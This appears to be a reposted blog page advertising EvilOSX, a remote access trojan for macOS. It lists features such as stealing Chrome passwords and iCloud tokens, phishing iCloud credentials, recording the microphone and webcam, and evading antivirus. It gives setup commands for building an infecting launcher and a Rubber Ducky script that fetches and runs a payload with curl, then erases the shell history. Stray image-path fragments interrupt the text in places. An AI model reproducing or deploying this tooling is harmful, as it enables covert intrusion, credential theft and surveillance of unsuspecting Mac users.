EvilOSX - An Evil RAT (Remote Administration Tool) For macOS/OS X

An evil RAT (Remote Administration Tool) for macOS / OS X.

  • Emulate a terminal instance
  • Simple extendable module system
  • No bot dependencies (pure python)
  • Undetected by anti-virus (OpenSSL AES-256 encrypted payloads)
  • Persistent
  • GUI and CLI support
  • Retrieve Chrome passwords
  • Retrieve iCloud tokens and contacts• Retrieve/monitor the clipboard
  • Retrieve browser history (Chrome and Safari)
  • Phish for iCloud passwords via iTunes
  • iTunes (iOS) backup enumeration
  • Record the microphone
  • Take a desktop screenshot or picture using the webcam
  • Attempt to get root via local privilege escalation

How To Use

Normal users
The server side requires python3 to run.
The bot side is written in python2 which is already installed on macOS / OS X.

Once python3 is installed, open a terminal and type the following:
# Clone or download this repository
$ git clone https://github.com/Marten4n6/EvilOSX

# Install dependencies required by the server
$ sudo pip3 install -r requirements.txt

# Go into the repository
$ cd EvilOSX

# Start listening for connections
$ python3 start.py

# Lastly, run the built launcher (see the builder tab) on your target(s)
Warning: Because payloads are created unique to the target system (automatically by the server), the server must be running when any bot connects for the first time.

Advanced users
There is also a command line interface for those who want to use this over SSH:
# Create a launcher to infect your target(s)
$ python3 builder.py

# Start listening for connections
$ python3 start.py --cli --port 1337

# Lastly, run the built launcher on your target(s)


This project was created to be used with Rubber Ducky, here's the simple script:
REM Download and execute EvilOSX @ https://github.com/Marten4n6/EvilOSX
REM See also: https://ducktoolkit.com/vidpid/

DELAY 1000
STRING Termina
DELAY 1000
DELAY 1500

REM Kill all terminals after x seconds
STRING screen -dm bash -c 'sleep 6; killall Terminal'

STRING cd /tmp; curl -s HOST_TO_EVILOSX.py -o 1337.py; python 1337.py;history -cw; clear
  • It takes about 10 seconds to backdoor any unlocked Mac, which is...... nice
  • Terminal is spelt that wayintentionally, on some systems spotlight won't find the terminal otherwise.
  • To bypass the keyboard setup assistantmake sure you change the VID&PID which can be found here. Aluminum Keyboard (ISO) is probably the one you are looking for.

EvilOSX - AnEvil RAT (Remote Administration Tool) For macOS/OS X EvilOSX - An Evil RAT (RemoteAdministration Tool) For macOS/OS X Reviewed byZion3R on 5:39 PM Rating: 5